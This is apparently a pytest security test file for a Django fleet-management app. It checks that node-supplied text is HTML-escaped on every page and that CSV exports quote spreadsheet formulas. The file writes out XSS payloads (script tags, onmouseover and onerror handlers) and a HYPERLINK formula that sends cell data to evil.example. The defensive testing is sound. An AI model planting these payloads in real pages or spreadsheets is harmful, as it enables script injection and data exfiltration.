"""What nodes send is shown inert: VM names, node names, event messages, task titles, template and
folder names, errors and command output carrying HTML or script come out escaped on every page and
partial — no script element, no event handler attribute appears that the page did not have."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from htmlscan import csp_problems
from secdata import all_endpoints, auth_headers, make_rich_fleet, url_for

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '" onmouseover="alert(2)'
IMG = "<img src=x onerror=alert(3)>"


@pytest.mark.parametrize("payload", [SCRIPT + ATTRIBUTE, IMG + "' onfocus='alert(4)"], ids=["script-attr", "img"])
def test_node_supplied_text_is_inert_on_every_page(users: dict[str, Any], payload: str) -> None:
    from test_security_roles_matrix import EXPECTED

    fleet = make_rich_fleet(users, text=payload)
    client = Client()
    client.force_login(users["admin"])
    pages = 0
    shown_escaped = 0
    failures: list[str] = []
    for endpoint in all_endpoints():
        if "GET" not in EXPECTED.get(endpoint.name, {}) or endpoint.name == "login":
            continue
        url = url_for(endpoint, fleet)
        for headers in ({}, {"HX-Request": "true"}):
            response = client.get(url, headers=headers | auth_headers(endpoint))
            assert response.status_code in (200, 286, 302), (url, response.status_code)
            if response.status_code == 302 or "html" not in response.get("Content-Type", ""):
                continue
            html = response.content.decode()
            pages += 1
            if "alert(" in html:
                shown_escaped += 1
            problems = csp_problems(html)
            if problems:
                failures.append(f"{url} {headers}: {problems}")
            # (" onerror=alert" without quotes is harmless text once "<img" is escaped: the parser checks attributes.)
            for raw in (SCRIPT, "<img src=x", ' onmouseover="alert', " onfocus='alert"):
                if raw in html:
                    failures.append(f"{url} {headers}: {raw!r} unescaped")
    assert failures == [], "\n".join(failures)
    assert pages >= 60
    # The payload is on the pages (escaped), not dropped: otherwise this test would prove nothing.
    assert shown_escaped >= 30, shown_escaped


def test_csv_export_neutralises_spreadsheet_formulas(users: dict[str, Any]) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_rich_fleet(users, text=formula)
    client = Client()
    client.force_login(users["viewer"])
    response = client.get("/activity/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the event message is exported"
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), "a cell that was a formula is quoted"
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), "no cell starts a formula"
